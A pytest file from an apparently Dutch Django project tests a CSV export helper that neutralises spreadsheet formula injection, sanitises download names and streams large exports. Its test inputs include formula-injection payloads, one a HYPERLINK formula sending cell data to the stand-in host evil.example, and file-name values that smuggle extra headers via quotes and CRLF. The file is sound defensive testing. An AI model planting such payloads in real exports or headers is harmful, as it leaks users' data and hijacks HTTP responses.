"""The one CSV helper (kcc.core.csvsafe): formula injection defused in every export, numbers
and dates written plainly, safe download names, streaming for large exports."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse

from kcc.core.csvsafe import csv_cell, csv_filename, csv_response, csv_text

FORMULAS = [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_starting_a_formula_gets_an_apostrophe(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Belastingen", "Jansen-de Vries", "e-mail", "2026-03", "81,3%", ""])
def test_ordinary_text_is_unchanged(value):
    assert csv_cell(value) == value


def test_numbers_dates_and_booleans():
    assert csv_cell(-5) == -5
    assert csv_cell(3.5) == 3.5
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert csv_cell(None) == ""
    assert csv_cell(True) == "ja"
    assert csv_cell(False) == "nee"
    assert csv_cell(dt.date(2026, 3, 1)) == "2026-03-01"
    assert csv_cell(dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC)) == "2026-03-01 10:30"  # Amsterdam


def test_written_csv_keeps_the_apostrophe_inside_quoted_cells():
    text = csv_text([["=HYPERLINK(\"x\";\"y\")", "ok", -3]])
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [["'=HYPERLINK(\"x\";\"y\")", "ok", "-3"]]


def test_download_name_is_sanitised():
    assert csv_filename('x"; evil=.csv') == "x-evil.csv"
    assert csv_filename("overleg-belastingen-2026-03.csv") == "overleg-belastingen-2026-03.csv"
    assert csv_filename("Eerste contact\r\nSet-Cookie: x") == "Eerste-contact-Set-Cookie-x.csv"
    assert csv_filename("") == "export.csv"
    response = csv_response([["a"]], filename='x"; evil=.csv')
    assert response["Content-Disposition"] == 'attachment; filename="x-evil.csv"'


def test_response_has_bom_header_and_is_never_cached():
    response = csv_response([["=bad", 1]], filename="t", header=["Naam", "Aantal"])
    assert response["Cache-Control"] == "no-store"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";")) == [["Naam", "Aantal"], ["'=bad", "1"]]


def test_streamed_response_gives_the_same_bytes():
    rows = [["=bad", 1], ["ok", dt.date(2026, 1, 2)]]
    plain = csv_response(rows, filename="t", header=["a", "b"])
    streamed = csv_response(iter(rows), filename="t", header=["a", "b"], stream=True)
    assert isinstance(streamed, StreamingHttpResponse)
    assert b"".join(streamed.streaming_content) == plain.content
